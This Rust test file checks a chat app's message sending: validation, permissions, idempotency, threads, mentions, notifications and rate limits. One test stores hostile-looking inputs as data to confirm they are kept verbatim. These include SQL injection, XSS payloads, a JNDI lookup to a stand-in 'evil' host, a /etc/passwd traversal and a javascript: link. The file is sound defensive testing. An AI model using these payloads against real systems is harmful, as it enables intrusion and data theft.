//! Sending: validation, authorization, idempotency, order, threads, mentions, notifications
//! and the rate limit.

use crate::world::{assert_invalid, keyed, reply, text, world, world_with};
use std::time::Duration;
use tandem_app::ChatPolicy;
use tandem_app::channels::{ChatError, CreateChannel, Created, create_channel, leave_channel};
use tandem_app::messages::{
    History, MAX_ATTACHMENTS, SendMessage, delete_message, get_message, message_history,
    send_message,
};
use tandem_app::ports::Clock;
use tandem_domain::{
    ChannelEventKind, ChannelId, ChannelKind, FileId, Mention, MessageId, MessageType,
};

#[tokio::test]
async fn a_message_is_stored_at_the_channels_next_seq_and_announced_there() {
    let w = world().await;
    let general = w.general().await;
    w.t.clock.advance(Duration::from_secs(30));
    let sent = send_message(w.chat(), &w.bob, text(general.id, "hello *world*"))
        .await
        .unwrap();
    let message = &sent.message;
    let seq = general.last_seq + 1;
    assert_eq!(message.seq, seq);
    assert_eq!(
        (
            message.channel_id,
            message.user_id,
            message.content.as_str()
        ),
        (general.id, w.bob.id, "hello *world*")
    );
    assert_eq!(message.message_type, MessageType::Text);
    assert_eq!(message.created_at, w.t.clock.now());
    assert_eq!((message.edited_at, message.is_deleted), (None, false));
    let event = sent.event.unwrap();
    assert_eq!(
        (event.kind, event.seq, event.message_id, event.actor_id),
        (
            ChannelEventKind::MessageCreated,
            seq,
            Some(message.id),
            w.bob.id
        )
    );
    assert_eq!(w.last_seq(general.id).await, seq);
    assert_eq!(&w.read(&w.cy, message.id).await, message);
    assert_eq!(
        w.announced(general.id).last().unwrap(),
        &format!("message_created seq={seq} message={}", message.id)
    );
}

#[tokio::test]
async fn messages_get_consecutive_seqs_in_the_order_they_are_sent() {
    let w = world().await;
    let general = w.general().await;
    let mut seqs = Vec::new();
    for (i, who) in [&w.ana, &w.bob, &w.ana, &w.bob, &w.bob]
        .into_iter()
        .enumerate()
    {
        seqs.push(w.send(who, general.id, &format!("message {i}")).await.seq);
    }
    let first = general.last_seq + 1;
    assert_eq!(seqs, (first..first + 5).collect::<Vec<_>>());
    let page = History {
        after_seq: Some(general.last_seq),
        ..History::default()
    };
    let history = message_history(w.chat(), &w.cy, general.id, page)
        .await
        .unwrap();
    let contents: Vec<&str> = history.iter().map(|m| m.content.as_str()).collect();
    assert_eq!(
        contents,
        [
            "message 0",
            "message 1",
            "message 2",
            "message 3",
            "message 4"
        ]
    );
}

#[tokio::test]
async fn blank_content_is_refused_and_nothing_is_stored() {
    let w = world().await;
    let general = w.general().await;
    for blank in ["", " ", "\n\t \r\n"] {
        let result = send_message(w.chat(), &w.bob, text(general.id, blank)).await;
        assert_invalid(&result, "content", "empty_message");
    }
    assert_eq!(w.last_seq(general.id).await, general.last_seq);
    assert_eq!(w.announced(general.id).len(), 2, "only Bob's join");
}

#[tokio::test]
async fn content_longer_than_the_limit_is_refused_and_the_limit_itself_is_accepted() {
    let w = world().await;
    let general = w.general().await;
    let max = w.chat().policy.max_message_chars;
    let result = send_message(w.chat(), &w.bob, text(general.id, &"é".repeat(max + 1))).await;
    assert_invalid(&result, "content", "message_too_long");
    assert_eq!(w.last_seq(general.id).await, general.last_seq);
    let longest = w.send(&w.bob, general.id, &"é".repeat(max)).await;
    assert_eq!(longest.content.chars().count(), max);
}

#[tokio::test]
async fn the_length_limit_comes_from_the_policy() {
    let w = world_with(ChatPolicy {
        max_message_chars: 5,
        ..ChatPolicy::default()
    })
    .await;
    let general = w.general().await;
    let result = send_message(w.chat(), &w.bob, text(general.id, "123456")).await;
    assert_invalid(&result, "content", "message_too_long");
    assert_eq!(w.send(&w.bob, general.id, "12345").await.content, "12345");
}

#[tokio::test]
async fn control_characters_are_refused_but_line_breaks_and_tabs_are_kept() {
    let w = world().await;
    let general = w.general().await;
    for bad in ["bell\u{7}", "nul\0byte", "escape\u{1b}[31m"] {
        let result = send_message(w.chat(), &w.bob, text(general.id, bad)).await;
        assert_invalid(&result, "content", "invalid_characters");
    }
    let kept = w.send(&w.bob, general.id, "  one\n\ttwo\r\nthree  ").await;
    assert_eq!(
        w.read(&w.ana, kept.id).await.content,
        "  one\n\ttwo\r\nthree  "
    );
}

#[tokio::test]
async fn injection_looking_text_is_stored_and_read_back_verbatim() {
    let w = world().await;
    let general = w.general().await;
    let texts = [
        "'; DROP TABLE messages; --",
        "\" OR 1=1 --",
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>",
        "{{7*7}} ${jndi:ldap://evil/x} %s%n%x",
        "../../etc/passwd",
        "\u{202e}txt.exe",
        "**bold** [link](javascript:alert(1))",
    ];
    let mut ids = Vec::new();
    for t in texts {
        let sent = w.send(&w.bob, general.id, t).await;
        assert_eq!(sent.content, t);
        assert_eq!(w.read(&w.cy, sent.id).await.content, t);
        ids.push(sent.id);
    }
    let page = History {
        after_seq: Some(general.last_seq),
        ..History::default()
    };
    let history = message_history(w.chat(), &w.cy, general.id, page)
        .await
        .unwrap();
    let contents: Vec<&str> = history.iter().map(|m| m.content.as_str()).collect();
    assert_eq!(contents, texts);
}

#[tokio::test]
async fn sending_the_same_client_msg_id_twice_stores_one_message() {
    let w = world().await;
    let general = w.general().await;
    let key = "0b7e9c1a-6d4f-4e3e-9a57-2f1d3c4b5a69";
    let first = w.sent(&w.bob, keyed(general.id, "only once", key)).await;
    let announced = w.announced(general.id);

    let retry = send_message(
        w.chat(),
        &w.bob,
        keyed(general.id, "only once, edited?", key),
    )
    .await
    .unwrap();
    assert!(retry.event.is_none(), "{retry:?}");
    assert_eq!(retry.message, first.message);
    assert_eq!(retry.message.content, "only once");
    assert_eq!(
        retry.message.client_msg_id.as_ref().map(|k| k.as_str()),
        Some(key)
    );
    assert_eq!(w.last_seq(general.id).await, first.message.seq);
    assert_eq!(w.announced(general.id), announced, "announced once");
    let history = message_history(w.chat(), &w.bob, general.id, History::default())
        .await
        .unwrap();
    assert_eq!(
        history
            .iter()
            .filter(|m| m.content.starts_with("only once"))
            .count(),
        1
    );
}

#[tokio::test]
async fn a_client_msg_id_belongs_to_its_sender_and_its_channel() {
    let w = world().await;
    let general = w.general().await;
    let staff = w.staff().await;
    tandem_app::channels::join_channel(w.chat(), &w.cy, general.id)
        .await
        .unwrap();
    let key = "retry-1";
    let bobs = w
        .sent(&w.bob, keyed(general.id, "bob's", key))
        .await
        .message;
    let cys = w.sent(&w.cy, keyed(general.id, "cy's", key)).await.message;
    let elsewhere = w
        .sent(&w.bob, keyed(staff.id, "bob's in staff", key))
        .await
        .message;
    assert_ne!(bobs.id, cys.id);
    assert_ne!(bobs.id, elsewhere.id);
    assert_eq!(cys.content, "cy's");
    assert_eq!(elsewhere.channel_id, staff.id);
}

#[tokio::test]
async fn replies_join_the_thread_of_their_root_and_stay_out_of_the_history() {
    let w = world().await;
    let general = w.general().await;
    let root = w.send(&w.ana, general.id, "root").await;
    w.t.clock.advance(Duration::from_secs(5));
    let first = w
        .sent(&w.bob, reply(general.id, root.id, "first"))
        .await
        .message;
    w.t.clock.advance(Duration::from_secs(5));
    let nested = w
        .sent(&w.ana, reply(general.id, first.id, "to the reply"))
        .await
        .message;
    assert_eq!(first.reply_to_id, Some(root.id));
    assert_eq!(
        nested.reply_to_id,
        Some(root.id),
        "a reply to a reply joins the thread"
    );
    assert_eq!(nested.seq, first.seq + 1);

    let root_now = w.read(&w.cy, root.id).await;
    assert_eq!(root_now.reply_count, 2);
    assert_eq!(root_now.last_reply_at, Some(nested.created_at));
    let history = message_history(w.chat(), &w.cy, general.id, History::default())
        .await
        .unwrap();
    assert_eq!(history[0].id, root.id, "replies are not top-level messages");
}

#[tokio::test]
async fn a_reply_must_name_a_live_message_of_the_same_channel() {
    let w = world().await;
    let general = w.general().await;
    let staff = w.staff().await;
    let globex = w.globex().await;
    let in_staff = w.send(&w.bob, staff.id, "elsewhere").await;
    let deleted = w.send(&w.bob, general.id, "soon gone").await;
    delete_message(w.chat(), &w.bob, deleted.id).await.unwrap();
    let foreign = w.send(&w.dee, globex.id, "another organization").await;
    let before = w.last_seq(general.id).await;

    for parent in [MessageId::new(9_999), in_staff.id, deleted.id, foreign.id] {
        let result = send_message(w.chat(), &w.bob, reply(general.id, parent, "re")).await;
        assert_invalid(&result, "reply_to_id", "invalid_reply_to");
    }
    assert_eq!(w.last_seq(general.id).await, before);
    assert_eq!(w.read(&w.dee, foreign.id).await.reply_count, 0);
}

#[tokio::test]
async fn mentions_are_resolved_only_for_members_of_the_channel() {
    let w = world().await;
    let general = w.general().await;
    let sent = w
        .send(
            &w.ana,
            general.id,
            "hi @Bob, @cy, @dee and @nobody; not `@ana` nor bob@acme.io",
        )
        .await;
    assert_eq!(sent.mentions, [Mention::User(w.bob.id)]);
    assert_eq!(
        w.read(&w.cy, sent.id).await.mentions,
        [Mention::User(w.bob.id)]
    );

    let everyone = w.send(&w.bob, general.id, "@channel and @here").await;
    assert_eq!(everyone.mentions, [Mention::Channel, Mention::Here]);
}

#[tokio::test]
async fn mentioned_members_are_notified_and_every_other_member_sees_an_unread_change() {
    let w = world().await;
    let staff = w
        .create(&w.ana, "staff", ChannelKind::Private, &[&w.bob, &w.cy])
        .await;
    let message = w.send(&w.ana, staff.id, "@bob please review").await;
    w.settled(&message, &[&w.bob, &w.cy]).await;

    let unread = format!("unread_changed channel={} seq={}", staff.id, message.seq);
    assert_eq!(
        w.notified(&w.bob),
        [format!("mention message={}", message.id), unread.clone()]
    );
    assert_eq!(w.notified(&w.cy), [unread]);
    assert!(w.notified(&w.ana).is_empty(), "{:?}", w.notified(&w.ana));
    assert!(w.notified(&w.dee).is_empty());
}

#[tokio::test]
async fn mentioning_someone_outside_the_channel_tells_them_nothing() {
    let w = world().await;
    let general = w.general().await;
    let message = w
        .send(&w.ana, general.id, "@cy @dee you are not here")
        .await;
    assert!(message.mentions.is_empty(), "{:?}", message.mentions);
    w.settled(&message, &[&w.bob]).await;
    assert!(w.notified(&w.cy).is_empty(), "{:?}", w.notified(&w.cy));
    assert!(w.notified(&w.dee).is_empty(), "{:?}", w.notified(&w.dee));
}

#[tokio::test]
async fn mentioning_oneself_is_recorded_but_notifies_nobody() {
    let w = world().await;
    let general = w.general().await;
    let message = w.send(&w.bob, general.id, "@bob remember the milk").await;
    assert_eq!(message.mentions, [Mention::User(w.bob.id)]);
    w.settled(&message, &[&w.ana]).await;
    assert!(w.notified(&w.bob).is_empty(), "{:?}", w.notified(&w.bob));
    assert_eq!(
        w.notified(&w.ana),
        [format!(
            "unread_changed channel={} seq={}",
            general.id, message.seq
        )]
    );
}

#[tokio::test]
async fn at_channel_notifies_every_member_but_the_author() {
    let w = world().await;
    let staff = w
        .create(&w.ana, "staff", ChannelKind::Private, &[&w.bob, &w.cy])
        .await;
    let message = w.send(&w.bob, staff.id, "@channel standup now").await;
    w.settled(&message, &[&w.ana, &w.cy]).await;
    let mention = format!("mention message={}", message.id);
    for member in [&w.ana, &w.cy] {
        assert!(
            w.notified(member).contains(&mention),
            "{:?}",
            w.notified(member)
        );
    }
    assert!(w.notified(&w.bob).is_empty(), "{:?}", w.notified(&w.bob));
}

#[tokio::test]
async fn a_message_in_a_direct_conversation_is_delivered_to_the_others_in_it() {
    let w = world().await;
    let created = create_channel(
        w.chat(),
        &w.ana,
        CreateChannel {
            name: None,
            description: None,
            kind: ChannelKind::Direct,
            member_ids: vec![w.bob.id],
            read_only: false,
        },
    )
    .await
    .unwrap();
    let Created::New(conversation) = created else {
        panic!("a new conversation")
    };
    let message = w.send(&w.ana, conversation.id, "psst").await;
    w.settled(&message, &[&w.bob]).await;
    assert_eq!(
        w.notified(&w.bob),
        [
            format!("direct_message message={}", message.id),
            format!(
                "unread_changed channel={} seq={}",
                conversation.id, message.seq
            ),
        ]
    );
    assert!(w.notified(&w.ana).is_empty());
    assert!(w.notified(&w.cy).is_empty());
}

#[tokio::test]
async fn sending_too_fast_is_refused_until_the_window_has_passed() {
    let w = world_with(ChatPolicy {
        max_messages_per_window: 3,
        message_window: Duration::from_secs(10),
        ..ChatPolicy::default()
    })
    .await;
    let general = w.general().await;
    for i in 0..3 {
        w.send(&w.bob, general.id, &format!("quick {i}")).await;
    }
    let before = w.last_seq(general.id).await;
    w.t.clock.advance(Duration::from_secs(4));
    let refused = send_message(w.chat(), &w.bob, text(general.id, "one too many")).await;
    let Err(ChatError::RateLimited { retry_after }) = refused else {
        panic!("rate limited: {refused:?}")
    };
    assert_eq!(retry_after, Duration::from_secs(6));
    assert_eq!(w.last_seq(general.id).await, before);

    w.send(&w.ana, general.id, "others are not slowed down")
        .await;
    w.t.clock.advance(Duration::from_secs(6));
    w.send(&w.bob, general.id, "a new window").await;
}

#[tokio::test]
async fn a_retry_of_a_stored_message_is_answered_with_it_even_at_the_rate_limit() {
    let w = world_with(ChatPolicy {
        max_messages_per_window: 2,
        ..ChatPolicy::default()
    })
    .await;
    let general = w.general().await;
    let first = w.sent(&w.bob, keyed(general.id, "first", "k-1")).await;
    w.send(&w.bob, general.id, "second").await;
    let retry = send_message(w.chat(), &w.bob, keyed(general.id, "first", "k-1")).await;
    let retry = retry.unwrap();
    assert_eq!(retry.message.id, first.message.id);
    assert!(retry.event.is_none());
}

#[tokio::test]
async fn an_archived_channel_refuses_new_messages() {
    let w = world().await;
    let general = w.general().await;
    let changes = tandem_app::ports::ChannelChanges {
        is_archived: Some(true),
        ..Default::default()
    };
    tandem_app::channels::update_channel(w.chat(), &w.ana, general.id, changes)
        .await
        .unwrap();
    let before = w.last_seq(general.id).await;
    for who in [&w.bob, &w.ana] {
        let result = send_message(w.chat(), who, text(general.id, "anyone?")).await;
        assert!(matches!(result, Err(ChatError::Forbidden(_))), "{result:?}");
    }
    assert_eq!(w.last_seq(general.id).await, before);
}

#[tokio::test]
async fn non_members_of_a_public_channel_may_not_post_in_it() {
    let w = world().await;
    let general = w.general().await;
    let admin_outside = w.create(&w.bob, "bobs", ChannelKind::Public, &[]).await;
    for (who, id) in [(&w.cy, general.id), (&w.ana, admin_outside.id)] {
        let result = send_message(w.chat(), who, text(id, "let me in")).await;
        assert!(matches!(result, Err(ChatError::Forbidden(_))), "{result:?}");
    }
    assert_eq!(w.last_seq(general.id).await, general.last_seq);
}

#[tokio::test]
async fn a_member_who_left_may_no_longer_post() {
    let w = world().await;
    let general = w.general().await;
    leave_channel(w.chat(), &w.bob, general.id)
        .await
        .unwrap()
        .unwrap();
    let result = send_message(w.chat(), &w.bob, text(general.id, "still here?")).await;
    assert!(matches!(result, Err(ChatError::Forbidden(_))), "{result:?}");
}

#[tokio::test]
async fn private_unknown_and_other_organizations_channels_are_not_found() {
    let w = world().await;
    let general = w.general().await;
    let staff = w.staff().await;
    let globex = w.globex().await;
    let cases = [
        (&w.cy, staff.id),
        (&w.dee, general.id),
        (&w.ana, globex.id),
        (&w.bob, ChannelId::new(9_999)),
    ];
    for (who, id) in cases {
        let result = send_message(w.chat(), who, text(id, "hello")).await;
        assert!(
            matches!(result, Err(ChatError::NotFound("channel"))),
            "user {} channel {id}: {result:?}",
            who.id
        );
    }
    assert_eq!(w.last_seq(staff.id).await, staff.last_seq);
    assert_eq!(w.last_seq(globex.id).await, globex.last_seq);
}

#[tokio::test]
async fn attachments_must_be_the_senders_uploads_waiting_to_be_shared() {
    let w = world().await;
    let general = w.general().await;
    let unknown = SendMessage {
        attachments: vec![FileId::new(9_999)],
        ..text(general.id, "look at this")
    };
    let result = send_message(w.chat(), &w.bob, unknown).await;
    assert_invalid(&result, "attachments", "invalid_attachment");
    let too_many = SendMessage {
        attachments: (1..=i64::try_from(MAX_ATTACHMENTS).unwrap() + 1)
            .map(FileId::new)
            .collect(),
        ..text(general.id, "")
    };
    let result = send_message(w.chat(), &w.bob, too_many).await;
    assert_invalid(&result, "attachments", "invalid_attachment");
    assert_eq!(w.last_seq(general.id).await, general.last_seq);
}

#[tokio::test]
async fn a_message_is_read_back_with_its_thread_fields_through_get_message() {
    let w = world().await;
    let general = w.general().await;
    let root = w.send(&w.bob, general.id, "root").await;
    let answer = w
        .sent(&w.ana, reply(general.id, root.id, "answer"))
        .await
        .message;
    let read = get_message(w.chat(), &w.cy, answer.id).await.unwrap();
    assert_eq!(read, answer);
    assert_eq!(read.reply_to_id, Some(root.id));
}
